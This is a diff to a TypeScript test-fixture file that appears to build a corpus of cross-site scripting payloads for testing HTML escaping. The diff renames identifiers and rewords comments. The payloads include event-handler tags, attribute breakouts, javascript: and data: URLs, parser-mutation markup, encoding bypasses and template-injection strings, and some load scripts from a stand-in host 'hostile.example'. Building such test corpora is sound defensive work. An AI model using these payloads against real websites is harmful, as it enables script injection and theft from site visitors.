@@ -1,55 +1,56 @@
-// Texts that would run code if a page contained them unescaped. Each sets the global `struck` or sends a request to another
-// host, and the tests check for both.
+// Texts that would run code if a page contained them unescaped. Each of them sets the global `struck` or sends a request
+// to another host, and the tests check for both.
 
-const ACT = 'top.struck=1';
+const PAYLOAD = 'top.struck=1';
 const OTHER_HOST = 'hostile.example';
 
-/** Elements that run code by themselves. */
+/** Elements that run code without an action of the visitor. */
 const ELEMENTS = [
-  `<img src=x onerror=${ACT}>`,
-  `<IMG/SRC=x/OnErRoR=${ACT}>`,
-  `<svg onload=${ACT}>`,
-  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
-  `<svg><script>${ACT}</script></svg>`,
-  `<video><source onerror=${ACT}></video>`,
-  `<audio src=x onerror=${ACT}>`,
-  `<details open ontoggle=${ACT}>`,
-  `<input autofocus onfocus=${ACT}>`,
-  `<select autofocus onfocus=${ACT}>`,
-  `<iframe srcdoc="<script>${ACT}</script>">`,
-  `<iframe src="javascript:${ACT}">`,
-  `<object data="javascript:${ACT}">`,
-  `<embed src="javascript:${ACT}">`,
-  `<link rel=stylesheet href=x onerror=${ACT}>`,
-  `<script>${ACT}</script>`,
+  `<img src=x onerror=${PAYLOAD}>`,
+  `<IMG/SRC=x/OnErRoR=${PAYLOAD}>`,
+  `<svg onload=${PAYLOAD}>`,
+  `<svg><animate onbegin=${PAYLOAD} attributeName=x dur=1s>`,
+  `<svg><script>${PAYLOAD}</script></svg>`,
+  `<video><source onerror=${PAYLOAD}></video>`,
+  `<audio src=x onerror=${PAYLOAD}>`,
+  `<details open ontoggle=${PAYLOAD}>`,
+  `<input autofocus onfocus=${PAYLOAD}>`,
+  `<select autofocus onfocus=${PAYLOAD}>`,
+  `<iframe srcdoc="<script>${PAYLOAD}</script>">`,
+  `<iframe src="javascript:${PAYLOAD}">`,
+  `<object data="javascript:${PAYLOAD}">`,
+  `<embed src="javascript:${PAYLOAD}">`,
+  `<link rel=stylesheet href=x onerror=${PAYLOAD}>`,
+  `<script>${PAYLOAD}</script>`,
   `<script src=//${OTHER_HOST}/a.js></script>`,
-  `<p style="animation:a" onanimationstart=${ACT}>`,
+  `<p style="animation:a" onanimationstart=${PAYLOAD}>`,
 ];
 
-/** Texts that end the context in which a page may contain the text. */
-const CONTEXT_ENDS = [
+/** Texts that close the HTML context in which a page may contain a text. */
+const CONTEXT_CLOSERS = [
   ...['', '">', "'>", '`>', '-->', ']]>'],
   ...['title', 'textarea', 'script', 'style', 'noscript'].map((name) => `</${name}>`),
 ];
 
-/** Attributes that break out of the attribute of an existing element. */
+/** Attributes that escape from an attribute of an existing element. */
 const ATTRIBUTES = ['"', "'", '`', '" ', '\\"', '&quot;', '" x=\''].map(
-  (quote) => `${quote} autofocus onfocus=${ACT} onmouseover=${ACT} onload=${ACT} x=${quote}`,
+  (quote) =>
+    `${quote} autofocus onfocus=${PAYLOAD} onmouseover=${PAYLOAD} onload=${PAYLOAD} x=${quote}`,
 );
 
 const ADDRESSES = [
-  `javascript:${ACT}`,
-  `JaVaScRiPt:${ACT}`,
-  ` javascript:${ACT}`,
-  `java\tscript:${ACT}`,
-  `java\nscript:${ACT}`,
-  `\u0001javascript:${ACT}`,
-  `javascript&colon;${ACT}`,
-  `&#106;avascript:${ACT}`,
-  `javascript:/*--></title></style></textarea></script>*/${ACT}`,
-  `data:text/html,<script>${ACT}</script>`,
+  `javascript:${PAYLOAD}`,
+  `JaVaScRiPt:${PAYLOAD}`,
+  ` javascript:${PAYLOAD}`,
+  `java\tscript:${PAYLOAD}`,
+  `java\nscript:${PAYLOAD}`,
+  `\u0001javascript:${PAYLOAD}`,
+  `javascript&colon;${PAYLOAD}`,
+  `&#106;avascript:${PAYLOAD}`,
+  `javascript:/*--></title></style></textarea></script>*/${PAYLOAD}`,
+  `data:text/html,<script>${PAYLOAD}</script>`,
   `data:text/html;base64,PHNjcmlwdD50b3Auc3RydWNrPTE8L3NjcmlwdD4=`,
-  `vbscript:${ACT}`,
+  `vbscript:${PAYLOAD}`,
   `//${OTHER_HOST}/x`,
   `https:${OTHER_HOST}/x`,
 ];
@@ -61,45 +62,45 @@ const LINKS = ADDRESSES.flatMap((address) => [
 ]);
 
 /** Malformed HTML that a parser repairs into an element that runs code. */
-const REPAIRED = [
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
-  `<svg></p><style><a id="</style><img src=1 onerror=${ACT}>">`,
-  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ACT}>`,
-  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
-  `<scr\0ipt>${ACT}</scr\0ipt>`,
-  `<<script>${ACT}//<</script>`,
-  `<!--<img src="--><img src=x onerror=${ACT}//">`,
-  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
-  `<xmp><p title="</xmp><svg/onload=${ACT}>">`,
-  `<select><noscript></select><script>${ACT}</script>`,
-  `<table><td background=//${OTHER_HOST}/x><img src=x onerror=${ACT}>`,
+const REPAIRED_MARKUP = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PAYLOAD}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${PAYLOAD}>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${PAYLOAD}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PAYLOAD}>`,
+  `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
+  `<scr\0ipt>${PAYLOAD}</scr\0ipt>`,
+  `<<script>${PAYLOAD}//<</script>`,
+  `<!--<img src="--><img src=x onerror=${PAYLOAD}//">`,
+  `<![CDATA[<img src=x onerror=${PAYLOAD}>]]>`,
+  `<xmp><p title="</xmp><svg/onload=${PAYLOAD}>">`,
+  `<select><noscript></select><script>${PAYLOAD}</script>`,
+  `<table><td background=//${OTHER_HOST}/x><img src=x onerror=${PAYLOAD}>`,
 ];
 
-const ENCODED = [
-  `&lt;img src=x onerror=${ACT}&gt;`,
-  `&#60;img src=x onerror=${ACT}&#62;`,
-  `%3Cimg src=x onerror=${ACT}%3E`,
-  `\\u003cimg src=x onerror=${ACT}\\u003e`,
-  `\\x3cimg src=x onerror=${ACT}\\x3e`,
-  `+ADw-script+AD4-${ACT}+ADw-/script+AD4-`,
-  `\uff1cscript\uff1e${ACT}\uff1c/script\uff1e`,
-  `\u2028<script>${ACT}</script>`,
-  `\ufeff<script>${ACT}</script>`,
-  `\u202e<script>${ACT}</script>`,
+const ENCODED_TEXTS = [
+  `&lt;img src=x onerror=${PAYLOAD}&gt;`,
+  `&#60;img src=x onerror=${PAYLOAD}&#62;`,
+  `%3Cimg src=x onerror=${PAYLOAD}%3E`,
+  `\\u003cimg src=x onerror=${PAYLOAD}\\u003e`,
+  `\\x3cimg src=x onerror=${PAYLOAD}\\x3e`,
+  `+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`,
+  `\uff1cscript\uff1e${PAYLOAD}\uff1c/script\uff1e`,
+  `\u2028<script>${PAYLOAD}</script>`,
+  `\ufeff<script>${PAYLOAD}</script>`,
+  `\u202e<script>${PAYLOAD}</script>`,
 ];
 
 const CODE_TEXTS = [
-  `";${ACT};//`,
-  `';${ACT};//`,
-  `\`;${ACT};//`,
-  `\${${ACT}}`,
-  `{{constructor.constructor('${ACT}')()}}`,
-  `<%= ${ACT} %>`,
-  `#{${ACT}}`,
-  `</script><script>${ACT}//`,
+  `";${PAYLOAD};//`,
+  `';${PAYLOAD};//`,
+  `\`;${PAYLOAD};//`,
+  `\${${PAYLOAD}}`,
+  `{{constructor.constructor('${PAYLOAD}')()}}`,
+  `<%= ${PAYLOAD} %>`,
+  `#{${PAYLOAD}}`,
+  `</script><script>${PAYLOAD}//`,
   `<!--<script>`,
-  `"}]}</script><svg onload=${ACT}>`,
+  `"}]}</script><svg onload=${PAYLOAD}>`,
 ];
 
 const REQUESTS = [
@@ -114,11 +115,11 @@ const REQUESTS = [
 ];
 
 export const HOSTILE_TEXTS: readonly string[] = [
-  ...CONTEXT_ENDS.flatMap((end) => ELEMENTS.map((element) => end + element)),
+  ...CONTEXT_CLOSERS.flatMap((closer) => ELEMENTS.map((element) => closer + element)),
   ...ATTRIBUTES,
   ...LINKS,
-  ...REPAIRED,
-  ...ENCODED,
+  ...REPAIRED_MARKUP,
+  ...ENCODED_TEXTS,
   ...CODE_TEXTS,
   ...REQUESTS,
 ];
@@ -126,8 +127,8 @@ export const HOSTILE_TEXTS: readonly string[] = [
 /** Valid addresses that would be code in an attribute or a template. */
 export const HOSTILE_EMAILS: readonly string[] = [
   "a'autofocus/onfocus='top.struck=1'",
-  `{{${ACT}}}`,
-  `\${${ACT}}`,
+  `{{${PAYLOAD}}}`,
+  `\${${PAYLOAD}}`,
   '=1+1',
   '`onload=top.struck=1`',
-].map((local) => `${local}@tarot.example`);
+].map((localPart) => `${localPart}@tarot.example`);
